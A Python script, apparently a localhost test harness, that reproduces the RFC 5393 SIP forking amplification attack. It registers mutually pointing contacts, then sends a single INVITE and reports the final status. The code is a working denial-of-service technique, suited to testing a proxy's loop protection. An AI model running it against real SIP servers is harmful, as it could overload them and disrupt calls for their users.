"""The fork bomb of RFC 5393: users that are registered at one another, and one INVITE.

`bomb.py PORT register` makes them; `bomb.py PORT call HOPS USER` calls and prints the status of the final answer.
"""
import socket
import sys
import time

port = int(sys.argv[1])
own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own.bind(("127.0.0.1", 0))
own.settimeout(0.5)
own_port = own.getsockname()[1]


def ask(method, uri, to, headers, hops=70, seconds=60):
    mark = "%d" % time.time_ns()
    head = [
        "Via: SIP/2.0/UDP 127.0.0.1:%d;branch=z9hG4bK%s;rport" % (own_port, mark),
        "From: <sip:%s>;tag=%s" % (to, mark),
        "Call-ID: bomb%s" % mark,
    ]
    lines = ["%s %s SIP/2.0" % (method, uri)] + head + [
        "To: <sip:%s>" % to, "CSeq: 1 " + method, "Max-Forwards: %d" % hops, *headers, "Content-Length: 0", "", ""]
    own.sendto("\r\n".join(lines).encode(), ("127.0.0.1", port))
    end = time.time() + seconds
    while time.time() < end:
        try:
            answer = own.recv(65536).decode()
        except socket.timeout:
            continue
        status = int(answer.split()[1])
        if status < 200 or "bomb" + mark not in answer:
            continue
        if method == "INVITE":
            to_line = next(line for line in answer.split("\r\n") if line.startswith("To:"))
            ack = ["ACK %s SIP/2.0" % uri] + head + [to_line, "CSeq: 1 ACK", "Max-Forwards: 70", "Content-Length: 0", "", ""]
            own.sendto("\r\n".join(ack).encode(), ("127.0.0.1", port))
        return status
    return 0


if sys.argv[2] == "register":
    # Two that have two contacts each, and six that have six: at all of them.
    for users in (["a", "b"], ["c", "d", "e", "f", "g", "h"]):
        for user in users:
            contacts = ["<sip:%s@127.0.0.1:%d;x=%s>" % (other, port, user) for other in users]
            status = ask("REGISTER", "sip:127.0.0.1:%d" % port, "%s@127.0.0.1:%d" % (user, port),
                         ["Contact: " + ", ".join(contacts), "Expires: 600"], seconds=5)
            if status != 200:
                sys.exit("REGISTER of %s: %d" % (user, status))
else:
    user = "%s@127.0.0.1:%d" % (sys.argv[4], port)
    print(ask("INVITE", "sip:" + user, user, [], hops=int(sys.argv[3])))
